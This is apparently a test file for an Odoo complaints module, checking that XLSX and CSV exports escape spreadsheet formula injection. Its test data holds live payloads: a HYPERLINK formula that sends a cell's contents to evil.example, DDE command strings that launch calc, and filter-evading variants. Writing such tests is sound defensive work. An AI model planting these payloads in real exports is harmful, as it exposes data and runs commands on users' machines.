import csv
import io
import json
from urllib.parse import urlencode

from openpyxl import load_workbook

from odoo.tests import HttpCase, tagged

from .common import DocumentsCommon

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LIVE = (
    FORMULA,
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)


@tagged("post_install", "-at_install")
class TestExport(DocumentsCommon, HttpCase):
    """Odoo's own exports of complaints, over HTTP, carry no live cell (T13)."""

    def _export(self, kind, model, records, names, import_compat=False, **params):
        data = {
            "model": model,
            "fields": [{"name": name, "label": name, "type": "char"} for name in names],
            "ids": records.ids,
            "domain": [],
            "import_compat": import_compat,
            **params,
        }
        self.authenticate(self.user_admin.login, self.user_admin.login)
        query = urlencode({"data": json.dumps(data)})
        answer = self.url_open(f"/web/export/{kind}?{query}")
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def setUp(self):
        super().setUp()
        self.env.ref("base.group_allow_export").sudo().user_ids |= self.user_admin
        self.complaints = self.env["complaint.complaint"]
        for text in LIVE:
            self.complaints |= self._complaint(
                description=text, complainant_name=text, phone="+1 555 1"
            )
        self.env.flush_all()

    def _cells(self, content):
        sheet = load_workbook(io.BytesIO(content)).active
        return [cell for row in sheet.iter_rows(min_row=2) for cell in row]

    def test_xlsx(self):
        names = ["name", "description", "complainant_name", "phone", "partner_id/name"]
        for import_compat in (False, True):
            with self.subTest(import_compat=import_compat):
                content = self._export(
                    "xlsx", "complaint.complaint", self.complaints, names, import_compat
                )
                cells = self._cells(content)
                self.assertFalse([cell.value for cell in cells if cell.data_type == "f"])
                texts = [str(cell.value) for cell in cells]
                self.assertIn(f"'{FORMULA}", texts)
                self.assertIn("+1 555 1", texts)

    def test_ratings(self):
        """What a customer writes beside his rating is exported by core's model."""
        complaint = self._registered_complaint()
        complaint.sudo()._write_trusted({"state": "resolved"})
        rating = complaint._rate_by_customer(3, FORMULA)
        content = self._export("xlsx", "rating.rating", rating, ["feedback", "rating"])
        cells = self._cells(content)
        self.assertFalse([cell.value for cell in cells if cell.data_type == "f"])
        self.assertIn(f"'{FORMULA}", [cell.value for cell in cells])

    def test_csv(self):
        content = self._export(
            "csv", "complaint.complaint", self.complaints, ["description", "complainant_name"]
        )
        rows = list(csv.reader(io.StringIO(content.decode())))[1:]
        self.assertEqual(len(rows), len(LIVE))
        for row in rows:
            for cell in row:
                self.assertTrue(cell.startswith("'"), cell)

    def test_through_another_model(self):
        """The same cells, exported with the goods they belong to."""
        complaint = self._registered_complaint(description=FORMULA)
        lines = complaint.line_ids
        lines.sudo()._thaw().name = FORMULA
        content = self._export("xlsx", lines._name, lines, ["name", "complaint_id/description"])
        cells = self._cells(content)
        self.assertEqual([cell.value for cell in cells], [f"'{FORMULA}"] * 2)
        self.assertFalse([cell.value for cell in cells if cell.data_type == "f"])
